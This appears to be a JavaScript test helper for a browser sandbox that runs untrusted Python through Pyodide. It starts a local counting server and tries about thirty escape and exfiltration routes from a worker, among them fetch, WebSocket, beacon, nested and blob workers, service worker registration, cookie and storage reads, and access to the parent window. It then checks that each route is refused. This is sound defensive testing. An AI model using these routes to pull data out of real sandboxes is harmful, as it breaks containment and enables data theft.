// What a stranger's program may try to get out of the sandbox, and a server that counts what does.
import { createServer } from "node:http";

/** A server that notes who calls; `hits` has the paths. */
export async function openSink() {
  const hits = [];
  const server = createServer((request, response) => {
    hits.push(request.url);
    response.writeHead(200, { "access-control-allow-origin": "*" });
    response.end("export default 1");
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { hits, address: `http://127.0.0.1:${server.address().port}`, close: () => server.close() };
}

/** Ways out, each a JavaScript expression; it runs in a worker that the program starts itself. */
export const WAYS = {
  fetch: "fetch('SINK/fetch')",
  "fetch without cors": "fetch('SINK/no-cors',{mode:'no-cors'})",
  "keepalive fetch": "fetch('SINK/keepalive',{keepalive:true,method:'POST',body:'x'})",
  xhr: "(()=>{const x=new XMLHttpRequest();x.open('GET','SINK/xhr',false);x.send();return x.status})()",
  websocket: "new Promise((y,n)=>{const w=new WebSocket('SINK/ws'.replace('http','ws'));w.onopen=y;w.onerror=n})",
  eventsource: "new Promise((y,n)=>{const e=new EventSource('SINK/es');e.onopen=y;e.onerror=n})",
  beacon: "(()=>{if(!navigator.sendBeacon('SINK/beacon'))throw 1;return true})()",
  import: "import('SINK/module.js')",
  worker: "new Promise((y,n)=>{const w=new Worker('SINK/worker.js',{type:'module'});w.onmessage=y;w.onerror=n})",
  "nested worker": "new Promise((y,n)=>{const w=new Worker('data:text/javascript,fetch(\"SINK/nested\").then(()=>postMessage(1),()=>postMessage(0))',{type:'module'});w.onmessage=e=>e.data?y():n();w.onerror=n})",
  "classic nested worker": "new Promise((y,n)=>{const w=new Worker('data:text/javascript,try{importScripts(\"SINK/script.js\");postMessage(1)}catch{postMessage(0)}');w.onmessage=e=>e.data?y():n();w.onerror=n})",
  "blob worker": "new Promise((y,n)=>{const u=URL.createObjectURL(new Blob(['fetch(\"SINK/blob\").then(()=>postMessage(1),()=>postMessage(0))']));const w=new Worker(u);w.onmessage=e=>e.data?y():n();w.onerror=n})",
  "shared worker": "new Promise((y,n)=>{const w=new SharedWorker('SINK/shared.js');w.onerror=n})",
  font: "(()=>{const f=new FontFace('f','url(SINK/font)');return f.load()})()",
  webrtc: "new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:9'}]})",
  webtransport: "new WebTransport('https://127.0.0.1:9/').ready",
  localStorage: "localStorage.getItem('gradtape.program')",
  indexedDB: "new Promise((y,n)=>{const r=indexedDB.open('x');r.onsuccess=y;r.onerror=n})",
  caches: "caches.open('x')",
  cookies: "cookieStore.getAll()",
  opfs: "navigator.storage.getDirectory()",
  broadcast: "(()=>{new BroadcastChannel('x').postMessage(1);if(location.origin!=='null')return 1;throw 1})()",
  serviceWorker: "navigator.serviceWorker.register('SINK/sw.js')",
  image: "(()=>{new Image().src='SINK/image';return 1})()",
  "image bitmap": "fetch('SINK/bitmap').then(r=>r.blob()).then(createImageBitmap)",
  form: "(()=>{const f=document.createElement('form');f.action='SINK/form';f.submit();return 1})()",
  "host name": "fetch('http://secret-in-a-name.gradtape.invalid/')",
  "importScripts": "importScripts('SINK/scripts.js')",
  parent: "parent.document.title",
  top: "top.location.href",
  document: "document.title",
  opener: "opener.location.href",
  eval: "new Function('return 1')()",
};

/** A Python program that tries ways, each in a worker of its own, and prints what came of it. */
export function programOfWays(address, names = Object.keys(WAYS)) {
  const attempts = Object.fromEntries(names.map((name) => [name, WAYS[name]]).map(([name, way]) => {
    const script = `(async()=>{try{const v=await Promise.race([(async()=>${way})(),new Promise((_,n)=>setTimeout(()=>n('nothing came'),1500))]);postMessage('GOT '+v)}catch(e){postMessage('refused: '+(e&&e.name||e))}})()`;
    return [name, `data:text/javascript;base64,${btoa(script.replaceAll("SINK", address))}`];
  }));
  return `import asyncio, json
import js
from pyodide.ffi import create_once_callable, to_js

async def answer(address):
    future = asyncio.get_event_loop().create_future()
    kind = to_js({"type": "module"}, dict_converter=js.Object.fromEntries)
    worker = js.Worker.new(address, kind)
    worker.onmessage = create_once_callable(lambda event: future.set_result(event.data))
    worker.onerror = create_once_callable(lambda event: future.set_result("did not start"))
    return await asyncio.wait_for(future, 5)

for name, address in json.loads(${JSON.stringify(JSON.stringify(attempts))}).items():
    print(name, "->", await answer(address))
print("tried all")
`;
}

/** The ways that a printed answer is missing of. */
export function unanswered(output) {
  return Object.keys(WAYS).filter((name) => !output.split("\n").some((line) => line.startsWith(`${name} ->`)));
}

/** The ways in the printed answers that were not refused; empty is good. */
export function notRefused(output) {
  const names = Object.keys(WAYS);
  const lines = output.split("\n").filter((line) => names.some((name) => line.startsWith(`${name} ->`)));
  return [...lines.filter((line) => !/-> (refused|did not start)/.test(line)), ...unanswered(output)];
}
